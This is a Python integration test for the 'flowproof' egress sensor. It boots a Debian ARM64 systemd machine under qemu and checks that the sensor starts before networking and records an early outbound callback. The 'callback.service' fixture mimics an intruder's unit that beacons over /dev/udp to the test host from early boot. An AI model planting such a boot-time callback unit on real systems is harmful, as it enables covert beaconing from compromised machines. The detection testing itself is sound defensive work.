#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""suite_systemd.py BUILD_DIR   A machine of Debian's own systemd, udev and networkd (64-bit ARM, whole under qemu-system) with a callback of the intruder's
that goes out as early as it can: the sensor's unit, installed offline or from the package, was there before the network, and the callback is in the
ledger, as the other end of the card counts it (root).
"""
import concurrent.futures
import os
import shutil
import sys

TESTS = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(TESTS, "lib"))
from chroot import output, private_mounts, tmpfs  # noqa: E402
from harness import ROOT, Tap, build_dir, check, equal, folder, match, run, write  # noqa: E402
import machine  # noqa: E402
from machine import ARM64, BOOT_LIMIT_S, COLLECTOR_PORT, GUEST, HERE, Machine  # noqa: E402
import net  # noqa: E402
from pki import Pki, collector  # noqa: E402

# systemd, what it is linked with, and what the machine's units run.
PACKAGES = """systemd udev libsystemd-shared libsystemd0 libudev1 libc6 libgcc-s1 libmount1 libblkid1 libuuid1 libselinux1 libpcre2-8-0 libacl1 libcap2
 libseccomp2 libcrypt1 libgcrypt20 libgpg-error0 liblz4-1 liblzma5 libzstd1 libaudit1 libcap-ng0 libpam0g libkmod2 libcryptsetup12 libfdisk1 libip4tc2 libssl3
 libdevmapper1.02.1 libargon2-1 libjson-c5 libapparmor1 kmod bash libtinfo6 mount util-linux libsmartcols1""".split()
KERNEL = ("arm64", "bookworm", "linux-image-arm64")
MEMORY_MIB = 768
ID, CALLED_PORT, UDP = "i-systemd", 9999, 17
UNITS = {
    # The intruder's: tried again and again from before the network comes up. (A pipe that nobody writes to is bash's sleep.)
    "callback.service": f"""[Unit]
DefaultDependencies=no
[Service]
ExecStart=/bin/bash -c 'exec 9<> <(:); until echo home >/dev/udp/{HERE}/{CALLED_PORT}; do read -r -t 0.2 -u 9; done'
StandardError=null
[Install]
WantedBy=sysinit.target
""",
    # The test's: a line on the console switches the machine off, in order.
    "off.service": """[Unit]
DefaultDependencies=no
[Service]
ExecStart=/bin/bash -c 'read -r line && exec systemctl poweroff'
StandardInput=tty
StandardOutput=tty
TTYPath=/dev/ttyAMA0
[Install]
WantedBy=sysinit.target
""",
    "trial.target": "[Unit]\nRequires=sysinit.target\nWants=systemd-networkd.service flowproof-collector.service\nAfter=sysinit.target\nAllowIsolate=yes\n",
}
NOT_NEEDED = ("systemd-journal-flush", "systemd-random-seed", "systemd-update-utmp", "systemd-pstore", "systemd-sysusers", "systemd-network-generator",
              "systemd-binfmt", "systemd-modules-load", "systemd-tmpfiles-setup-dev", "systemd-tmpfiles-setup", "systemd-sysctl", "systemd-remount-fs",
              *(f"modprobe@{m}" for m in ("configfs", "dm_mod", "efi_pstore", "fuse", "loop", "drm")))

NO_MOUNTS = ("dev-hugepages.mount", "dev-mqueue.mount", "sys-kernel-debug.mount", "sys-kernel-tracing.mount", "sys-fs-fuse-connections.mount", "sys-kernel-config.mount")


def make_tree(root):
    files = output("sh", os.path.join(ROOT, "scripts", "deps-static.sh"), "unpacked", "arm64", "bookworm", *PACKAGES).strip()
    kernel = output("sh", os.path.join(ROOT, "scripts", "deps-static.sh"), "kernel", *KERNEL).strip()
    left_out = shutil.ignore_patterns("doc", "locale", "man", "hwdb.d", "hwdb.bin", "bash-completion", "zsh", "lintian", "gconv", "catalog")
    shutil.copytree(files, root, symlinks=True, dirs_exist_ok=True, ignore=left_out)
    for d in ("proc", "sys", "dev", "run", "tmp", "root", "var/log", "opt", "modules"):
        os.makedirs(os.path.join(root, d), exist_ok=True)
    output("systemd-sysusers", f"--root={root}")
    write(f"{root}/etc/machine-id", "0123456789abcdef0123456789abcdef\n")
    os.symlink("/lib/systemd/systemd", f"{root}/usr/sbin/init")
    for m in os.listdir(kernel + ".modules"):
        if m.endswith(".ko"):
            shutil.copy(os.path.join(kernel + ".modules", m), f"{root}/modules")
    write(f"{root}/init", "#!/bin/bash\nfor m in /modules/*.ko; do insmod $m; done\nexec /lib/systemd/systemd\n")
    os.chmod(f"{root}/init", 0o755)
    write(f"{root}/etc/systemd/network/10-eth0.network", f"[Match]\nName=eth0\n[Network]\nAddress={GUEST}/24\nLinkLocalAddressing=no\n")
    for name, text in UNITS.items():
        write(f"{root}/etc/systemd/system/{name}", text)
    output("systemctl", f"--root={root}", "enable", "callback.service", "off.service", "systemd-networkd.service")
    output("systemctl", f"--root={root}", "mask", "systemd-networkd-wait-online.service", "getty.target", *(f"{n}.service" for n in NOT_NEEDED), *NO_MOUNTS)
    return kernel


def offline(root, keys):
    """By the installer, as on a suspect's volume."""
    with folder() as away:
        run(os.path.join(ROOT, "platform", "ec2", "install-offline"), root, "--id", ID, "--collector", f"{HERE}:{COLLECTOR_PORT}", "--keys", keys.folder,
            "--interface", "eth0", "--sensor", os.path.join(build_dir(), ARM64, "flowproof-sensor"), "--manifest", os.path.join(away, "manifest")).expect(0)


def packaged(root, keys):
    """From the package, configured and enabled as its manual says."""
    with folder() as d:
        deb = output("sh", os.path.join(ROOT, "scripts", "package.sh"), "deb", ARM64, d, os.path.join(build_dir(), ARM64, "flowproof-sensor")).split()[0]
        output("sh", "-c", f"dpkg-deb --fsys-tarfile {deb} | tar -x --keep-directory-symlink -C {root}")
    cert, key = keys.pair(ID)
    for source, name, mode in ((keys.ca, "ca.crt", 0o644), (cert, "sensor.crt", 0o644), (key, "sensor.key", 0o600)):
        shutil.copy(source, f"{root}/etc/flowproof/{name}")
        os.chmod(f"{root}/etc/flowproof/{name}", mode)
    write(f"{root}/etc/flowproof/sensor.conf", f"interface = eth0\ncollector = {HERE}:{COLLECTOR_PORT}\nid = {ID}\nca = /etc/flowproof/ca.crt\ncert = /etc/flowproof/sensor.crt\n")
    os.makedirs(f"{root}/etc/systemd/system/flowproof-sensor.service.d")
    device = "sys-subsystem-net-devices-eth0.device"
    write(f"{root}/etc/systemd/system/flowproof-sensor.service.d/device.conf",
          f"[Unit]\nWants={device}\nAfter={device}\n[Service]\nStandardError=journal+console\n")
    output("systemctl", f"--root={root}", "enable", "flowproof-sensor.service")
    # A collector beside it, which nobody speaks to: its unit's user, credential and folders are what is tried.
    shutil.copy(os.path.join(build_dir(), ARM64, "full", "flowproof-collector"), f"{root}/usr/sbin")
    shutil.copy(os.path.join(ROOT, "platform", "systemd", "flowproof-collector.service"), f"{root}/lib/systemd/system")
    cert, key = keys.pair("collector")
    for source in (cert, key):
        shutil.copy(source, f"{root}/etc/flowproof")
    os.chmod(f"{root}/etc/flowproof/collector.key", 0o600)
    write(f"{root}/etc/flowproof/collector.conf", "listen = 127.0.0.1:4739\nca = /etc/flowproof/ca.crt\ncert = /etc/flowproof/collector.crt\n"
          "alert-file = /var/log/flowproof/alerts.json\n")
    os.makedirs(f"{root}/etc/systemd/system/flowproof-collector.service.d")
    write(f"{root}/etc/systemd/system/flowproof-collector.service.d/said.conf", "[Service]\nStandardError=journal+console\n")
    output("systemctl", f"--root={root}", "enable", "flowproof-collector.service")


def boot(ns, d, name, put, keys, also):
    """(console, what the witness saw, what the ledger has, its events, its audit)"""
    store, initrd = os.path.join(d, "store-" + name), os.path.join(d, name + ".cpio.gz")
    with tmpfs() as root:
        kernel = make_tree(root)
        put(root, keys)
        output("sh", "-c", f"cd {root} && find . -print0 | cpio -0 -o -H newc --quiet | gzip -1 >{initrd}")
    witness = machine.tap(ns)
    line = ["net.ifnames=0", "systemd.unit=trial.target", "systemd.show_status=1", "systemd.log_color=0"]
    with collector(store, f"{HERE}:{COLLECTOR_PORT}", keys.options("collector"), prefix=net.prefix(ns)) as c, \
            Machine(ARM64, MEMORY_MIB, kernel, initrd, line, ns) as m:
        witness.wait_until(lambda flows: any(k[3] == CALLED_PORT for k in flows), BOOT_LIMIT_S, "the callback")
        for words in ("uplink: connected", *also):
            m.wait_for(words, "out", limit=BOOT_LIMIT_S)
        m.say("off")
        m.wait(BOOT_LIMIT_S).expect(0)
        c.stop().expect(0)
    equal(witness.stop(), 0, "packets that the witness missed")
    return (m.console(), machine.other(witness.seen()), machine.records(store), run("flowproof", "records", "-d", store, "--events").expect(0).out,
            run("flowproof", "audit", "-d", store, "--ca", keys.ca))


def judge(tap, name, future):
    console, want, got, events, audit = "", {}, {}, "", None
    with tap.case(f"{name}: the sensor is ready before networkd is begun"):
        console, want, got, events, audit = future.result()
        ready = match(r"Started.*flowproof-s", console).start()
        check(ready < match(r"Starting.*systemd-netw", console[console.index("flowproof-s"):]).start() + console.index("flowproof-s"), console)
    with tap.case(f"{name}: a callback as early as can be is in the ledger, counted as the other end counts it"):
        check(any(k[:2] == (GUEST, HERE) and k[3:] == (CALLED_PORT, UDP) for k in want), f"{want}")
        equal(sorted(got.items()), sorted(want.items()), "records beside the witness")
        match(rf"unexpected egress: {GUEST}:\d+ -> {HERE}:{CALLED_PORT}", console)
    if name == "packaged":
        with tap.case("packaged: the collector's unit runs, with a user of its own, and ends in order"):
            match(r"flowproof-collector\[\d+\]: .*sandbox: user [1-9]", console)
            match(r"flowproof-collector\[\d+\]: .*collector: stopping", console)
            check("flowproof-collector.service: Failed" not in console, console)
    with tap.case(f"{name}: the stream tells how early it was, and ends with a goodbye"):
        match(r"uptime_s[= ]\d+", events)
        audit.expect(0)


def main():
    net.need_root("suite_systemd.py")
    private_mounts()
    os.environ.setdefault("SOURCE_DATE_EPOCH", "0")
    os.environ.setdefault("VERSION", "0.1.0")
    tap = Tap()
    with folder() as d, net.Namespaces("sys0", "sys1") as nss:
        keys = Pki(os.path.join(d, "keys"))
        keys.issue(ID)
        with concurrent.futures.ThreadPoolExecutor(1) as pool:  # the other core is another suite's
            futures = [(name, pool.submit(boot, nss.full[f"sys{n}"], d, name, put, keys, also)) for n, (name, put, also) in enumerate(
                (("offline", offline, ()), ("packaged", packaged, ("collector: listening on 127.0.0.1:4739",))))]
            for name, future in futures:
                judge(tap, name, future)
    tap.done()


if __name__ == "__main__":
    main()
